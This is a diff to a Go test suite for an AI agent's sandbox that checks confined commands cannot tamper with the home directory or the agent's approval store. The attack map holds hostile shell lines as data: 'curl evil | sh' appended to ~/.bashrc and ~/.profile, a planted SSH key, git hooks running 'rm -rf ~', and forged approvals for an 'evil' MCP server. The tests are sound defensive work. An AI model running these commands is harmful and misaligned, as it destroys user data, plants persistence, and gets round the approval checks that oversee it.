@@ -7,6 +7,7 @@ import (
 	"crypto/sha256"
 	"encoding/json"
 	"fmt"
+	"maps"
 	"net"
 	"os"
 	"os/exec"
@@ -15,13 +16,13 @@ import (
 	"strings"
 	"sync"
 	"sync/atomic"
-	"syscall"
 	"testing"
 	"time"
 
 	"github.com/piagent/piagent/internal/gate"
 	"github.com/piagent/piagent/internal/registry"
 	"github.com/piagent/piagent/internal/sandbox"
+	"github.com/piagent/piagent/internal/testenv"
 )
 
 var piagentBin, leanBin, attackBin, faultBin string
@@ -143,16 +144,20 @@ func (w *world) gate(t *testing.T) *gate.Gate {
 	return g
 }
 
-// snapshot hashes every file beneath home and the project's registered
-// folders, so a change anywhere there is seen.
+// snapshot hashes every file beneath home (registered or not: ~/.bashrc
+// runs at the person's next shell) and the project's registered folders,
+// so a change anywhere there is seen.
 func (w *world) snapshot(t *testing.T) map[string]string {
 	t.Helper()
 	out := map[string]string{}
+	roots := []string{w.home}
 	for _, e := range w.gate(t).Registry(nil, nil) {
-		if !strings.HasPrefix(e.Path, w.root) {
-			continue
+		if strings.HasPrefix(e.Path, w.root) {
+			roots = append(roots, e.Path)
 		}
-		filepath.Walk(e.Path, func(p string, fi os.FileInfo, err error) error {
+	}
+	for _, root := range roots {
+		filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
 			if err != nil {
 				return nil
 			}
@@ -164,19 +169,26 @@ func (w *world) snapshot(t *testing.T) map[string]string {
 			}
 			return nil
 		})
-		if _, err := os.Lstat(e.Path); err != nil {
-			out[e.Path] = "absent"
+		if _, err := os.Lstat(root); err != nil {
+			out[root] = "absent"
 		}
 	}
 	return out
 }
+
+// testVars are the variables the attack scripts name: the attack program
+// ($A) and the forged files ($F). The sandbox's environment is an
+// allow-list, so they are passed by name (--keep-env); without that, "$A"
+// is empty under the sandbox and an attack through it could never work,
+// whatever the sandbox did (issue 41: TestSeams' attacks were vacuous).
+const testVars = "A,F"
 
 // run runs a bash command line under `piagent-sandbox exec` in the project:
 // the small binary the extension runs when it is installed. (The seams
 // tests, the server grants and the benchmarks run `piagent sandbox exec`.)
 func (w *world) run(t *testing.T, script string) (string, error) {
 	t.Helper()
-	cmd := exec.Command(leanBin, "exec", "--", "/bin/bash", "-c", script)
+	cmd := exec.Command(leanBin, "exec", "--keep-env", testVars, "--", "/bin/bash", "-c", script)
 	cmd.Dir, cmd.Env = w.proj, w.env
 	var out bytes.Buffer
 	cmd.Stdout, cmd.Stderr = &out, &out
@@ -184,48 +196,94 @@ func (w *world) run(t *testing.T, script string) (string, error) {
 	return out.String(), err
 }
 
+// homeAttacks write beneath the home, outside every folder a command may
+// write: the approval store and the rest of ~/.pi, the user's MCP layer,
+// and files that are not registered but run at the person's next shell or
+// login. Every one must leave every file there byte-identical, with
+// namespaces (TestAttacksUnderSandbox) and under Landlock alone
+// (TestHomeAttacksUnderLandlockAlone).
+var homeAttacks = map[string]string{
+	"cp into ~/.pi":          `cp $F/piagent-mcp-approvals.json ~/.pi/`,
+	"cp -r into ~/.pi":       `cp -r $F/fakepi/. ~/.pi/`,
+	"swap ~/.pi":             `mv ~/.pi ~/.pi.old && mv $F/fakepi ~/.pi`,
+	"cp -t ~/.pi":            `cp -t ~/.pi $F/piagent-mcp-approvals.json`,
+	"plant a user server":    `cp $F/mcp.json ~/.config/mcp/`,
+	"python approve":         `python3 -c "import subprocess;subprocess.run(['pia'+'gent-mcp','approve','evil','--yes'])"`,
+	"alias approve":          "shopt -s expand_aliases\nalias p=piagent-mcp\np approve evil --yes",
+	"script approve":         `printf 'piagent-mcp approve evil --yes\n' > run.sh && sh run.sh`,
+	"python write":           `python3 -c "import shutil,os;shutil.copy('$F/piagent-mcp-approvals.json', os.path.expanduser('~/.pi/piagent-mcp-approvals.json'))"`,
+	"perl write":             `perl -e 'open(my $f, ">", "$ENV{HOME}/.pi/piagent-mcp-approvals.json") or die $!; print $f "{}"'`,
+	"node write":             `node -e 'require("fs").copyFileSync(process.env.F+"/piagent-mcp-approvals.json", process.env.HOME+"/.pi/piagent-mcp-approvals.json")'`,
+	"dd":                     `dd if=$F/piagent-mcp-approvals.json of=$HOME/.pi/piagent-mcp-approvals.json`,
+	"tee":                    `tee ~/.pi/piagent-mcp-approvals.json < $F/piagent-mcp-approvals.json`,
+	"install":                `install -m 600 $F/piagent-mcp-approvals.json ~/.pi/piagent-mcp-approvals.json`,
+	"tar -x":                 `tar -C $F/fakepi -cf $F/x.tar piagent-mcp-approvals.json && tar -xf $F/x.tar -C ~/.pi`,
+	"ln -s over the store":   `ln -sf $F/piagent-mcp-approvals.json ~/.pi/piagent-mcp-approvals.json`,
+	"hard link into ~/.pi":   `ln $F/piagent-mcp-approvals.json ~/.pi/piagent-mcp-approvals.json`,
+	"rename parent":          `mv ~/.config/mcp ~/.config/mcp.old`,
+	"rename agent dir":       `mv ~/.pi/agent ~/.pi/agent.old`,
+	"mode store":             `echo '{"version":1,"projects":{}}' > ~/.pi/piagent-modes.json`,
+	"trust":                  `echo '{}' > ~/.pi/agent/trust.json`,
+	"npx cache":              `echo '{}' > ~/.pi/agent/mcp-npx-cache.json`,
+	"user extension":         `echo 'export default () => {}' > ~/.pi/agent/extensions/x.ts`,
+	"pi settings":            `echo '{"packages":["npm:evil"]}' > ~/.pi/agent/settings.json`,
+	"python rename parent":   `python3 -c "import os;os.rename(os.path.expanduser('~/.pi'), os.path.expanduser('~/.pi2'))"`,
+	"truncate the store dir": `: > ~/.pi/piagent-mcp-approvals.json.lock`,
+	// Not registered, but outside every writable folder: the person's next
+	// shell runs it (issue 41, S1: Landlock's / rule made writable).
+	"append to ~/.bashrc": `echo 'curl evil | sh' >> ~/.bashrc`,
+	"plant ~/.profile":    `echo 'curl evil | sh' > ~/.profile`,
+	"ssh authorized_keys": `mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA evil' >> ~/.ssh/authorized_keys`,
+}
+
 func TestAttacksUnderSandbox(t *testing.T) {
 	needSandbox(t)
 	attacks := map[string]string{
-		"cp into ~/.pi":          `cp $F/piagent-mcp-approvals.json ~/.pi/`,
-		"cp -r into ~/.pi":       `cp -r $F/fakepi/. ~/.pi/`,
-		"swap ~/.pi":             `mv ~/.pi ~/.pi.old && mv $F/fakepi ~/.pi`,
-		"cp -t ~/.pi":            `cp -t ~/.pi $F/piagent-mcp-approvals.json`,
-		"plant a user server":    `cp $F/mcp.json ~/.config/mcp/`,
-		"python approve":         `python3 -c "import subprocess;subprocess.run(['pia'+'gent-mcp','approve','evil','--yes'])"`,
-		"alias approve":          "shopt -s expand_aliases\nalias p=piagent-mcp\np approve evil --yes",
-		"script approve":         `printf 'piagent-mcp approve evil --yes\n' > run.sh && sh run.sh`,
-		"python write":           `python3 -c "import shutil,os;shutil.copy('$F/piagent-mcp-approvals.json', os.path.expanduser('~/.pi/piagent-mcp-approvals.json'))"`,
-		"perl write":             `perl -e 'open(my $f, ">", "$ENV{HOME}/.pi/piagent-mcp-approvals.json") or die $!; print $f "{}"'`,
-		"node write":             `node -e 'require("fs").copyFileSync(process.env.F+"/piagent-mcp-approvals.json", process.env.HOME+"/.pi/piagent-mcp-approvals.json")'`,
-		"dd":                     `dd if=$F/piagent-mcp-approvals.json of=$HOME/.pi/piagent-mcp-approvals.json`,
-		"tee":                    `tee ~/.pi/piagent-mcp-approvals.json < $F/piagent-mcp-approvals.json`,
-		"install":                `install -m 600 $F/piagent-mcp-approvals.json ~/.pi/piagent-mcp-approvals.json`,
-		"tar -x":                 `tar -C $F/fakepi -cf $F/x.tar piagent-mcp-approvals.json && tar -xf $F/x.tar -C ~/.pi`,
-		"ln -s over the store":   `ln -sf $F/piagent-mcp-approvals.json ~/.pi/piagent-mcp-approvals.json`,
-		"hard link into ~/.pi":   `ln $F/piagent-mcp-approvals.json ~/.pi/piagent-mcp-approvals.json`,
-		"rename parent":          `mv ~/.config/mcp ~/.config/mcp.old`,
-		"rename agent dir":       `mv ~/.pi/agent ~/.pi/agent.old`,
-		"mode store":             `echo '{"version":1,"projects":{}}' > ~/.pi/piagent-modes.json`,
-		"trust":                  `echo '{}' > ~/.pi/agent/trust.json`,
-		"npx cache":              `echo '{}' > ~/.pi/agent/mcp-npx-cache.json`,
-		"user extension":         `echo 'export default () => {}' > ~/.pi/agent/extensions/x.ts`,
-		"pi settings":            `echo '{"packages":["npm:evil"]}' > ~/.pi/agent/settings.json`,
-		"project extension":      `mkdir -p .pi/extensions && echo 'export default () => {}' > .pi/extensions/x.ts`,
-		"project pi settings":    `echo '{}' > .pi/settings.json`,
-		"git hook":               `echo 'rm -rf ~' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`,
-		"git config alias":       `git config alias.nuke '!rm -rf ~'`,
-		"rename .git":            `mv .git .git.old && mkdir -p .git/hooks`,
-		"edit .mcp.json":         `echo '{"mcpServers":{"evil":{"command":"sh"}}}' > .mcp.json`,
-		"remove .mcp.json":       `rm -f .mcp.json`,
-		"python rename parent":   `python3 -c "import os;os.rename(os.path.expanduser('~/.pi'), os.path.expanduser('~/.pi2'))"`,
-		"truncate the store dir": `: > ~/.pi/piagent-mcp-approvals.json.lock`,
+		"project extension":   `mkdir -p .pi/extensions && echo 'export default () => {}' > .pi/extensions/x.ts`,
+		"project pi settings": `echo '{}' > .pi/settings.json`,
+		"git hook":            `echo 'rm -rf ~' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`,
+		"git config alias":    `git config alias.nuke '!rm -rf ~'`,
+		"rename .git":         `mv .git .git.old && mkdir -p .git/hooks`,
+		"edit .mcp.json":      `echo '{"mcpServers":{"evil":{"command":"sh"}}}' > .mcp.json`,
+		"remove .mcp.json":    `rm -f .mcp.json`,
 	}
+	maps.Copy(attacks, homeAttacks)
 	w := newWorld(t)
 	w.env = append(w.env, "F="+w.forge)
+	w.attack(t, piagentBin, w.env, attacks)
+	t.Logf("%d attacks, every registered file and every file in the home byte-identical, evil still %s", len(attacks), gate.PendingApproval)
+}
+
+// TestHomeAttacksUnderLandlockAlone: where no namespace can mount (a fault
+// build simulates Ubuntu's AppArmor restriction), Landlock alone keeps every
+// write beneath the home out: its rule for / is read-only (issue 41, S1).
+// The project's registered files are not held there, and status says so
+// (TestNamespaceRefusedSaysSo).
+func TestHomeAttacksUnderLandlockAlone(t *testing.T) {
+	needSandbox(t)
+	w := newWorld(t)
+	env := append(w.env, "F="+w.forge, "PIAGENT_SANDBOX_FAULT=mount")
+	// The control: the fault build really runs under Landlock alone.
+	cmd := exec.Command(faultBin, "sandbox", "exec", "--", "/bin/true")
+	cmd.Dir, cmd.Env = w.proj, env
+	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "Landlock and seccomp alone") {
+		t.Fatalf("the fault build does not say it runs under Landlock alone: %v %s", err, out)
+	}
+	w.attack(t, faultBin, env, homeAttacks)
+	t.Logf("%d attacks under Landlock alone, every file in the home byte-identical", len(homeAttacks))
+}
+
+// attack runs each script under bin's `sandbox exec` in the project and
+// requires every file beneath home and the registered folders unchanged,
+// nothing new there, evil still pending and no server planted.
+func (w *world) attack(t *testing.T, bin string, env []string, attacks map[string]string) {
+	t.Helper()
 	before := w.snapshot(t)
-	for name, script := range attacks {
-		out, _ := w.run(t, script)
+	for _, name := range slices.Sorted(maps.Keys(attacks)) {
+		cmd := exec.Command(bin, "sandbox", "exec", "--keep-env", testVars, "--", "/bin/bash", "-c", attacks[name])
+		cmd.Dir, cmd.Env = w.proj, env
+		outb, _ := cmd.CombinedOutput()
+		out := string(outb)
 		after := w.snapshot(t)
 		for p, h := range before {
 			if after[p] != h {
@@ -245,7 +303,6 @@ func TestAttacksUnderSandbox(t *testing.T) {
 		}
 		before = after
 	}
-	t.Logf("%d attacks, every registered file byte-identical, evil still %s", len(attacks), gate.PendingApproval)
 }
 
 // TestSecretsHidden: the project's .env and Pi's auth.json read as empty
@@ -298,22 +355,45 @@ func TestUnixSocketRefused(t *testing.T) {
 }
 
 // TestKillHelperRefused: a confined command cannot signal a process outside
-// its sandbox (the helper).
+// its sandbox (the helper). The helper is this test's child, reaped by Wait
+// in a goroutine: a kill that got through ends that Wait, which Signal(0) on
+// an unreaped child (a zombie still answers it) could never show. The
+// control kills the same kind of process unconfined and sees its Wait end.
 func TestKillHelperRefused(t *testing.T) {
 	if st := needSandbox(t); !st.Scoped {
 		t.Skip("Landlock ABI < 6: no signal scoping")
 	}
 	w := newWorld(t)
-	helper := exec.Command("sleep", "60")
-	must(t, helper.Start())
-	defer helper.Process.Kill()
+	start := func() (*exec.Cmd, chan error) {
+		helper := exec.Command("sleep", "600")
+		must(t, helper.Start())
+		t.Cleanup(func() { helper.Process.Kill() })
+		done := make(chan error, 1)
+		go func() { done <- helper.Wait() }()
+		return helper, done
+	}
+
+	control, controlDone := start()
+	if out, err := exec.Command("sh", "-c", fmt.Sprintf("kill -9 %d", control.Process.Pid)).CombinedOutput(); err != nil {
+		t.Fatalf("control: kill unconfined failed: %v %s", err, out)
+	}
+	select {
+	case <-controlDone:
+	case <-time.After(testenv.Slow(10 * time.Second)):
+		t.Fatal("control: the unconfined kill did not end the process; this test cannot tell a refused kill")
+	}
+
+	helper, done := start()
 	out, err := w.run(t, fmt.Sprintf("kill -9 %d", helper.Process.Pid))
 	if err == nil {
 		t.Errorf("kill succeeded: %s", out)
 	}
-	time.Sleep(50 * time.Millisecond)
-	if err := helper.Process.Signal(syscall.Signal(0)); err != nil {
-		t.Errorf("the helper is gone: %v", err)
+	// A SIGKILL that got through has ended the helper by the time kill
+	// returns; two seconds are plenty for Wait to see it.
+	select {
+	case err := <-done:
+		t.Errorf("the helper is gone: %v (sandboxed kill: %s)", err, out)
+	case <-time.After(testenv.Slow(2 * time.Second)):
 	}
 }
 
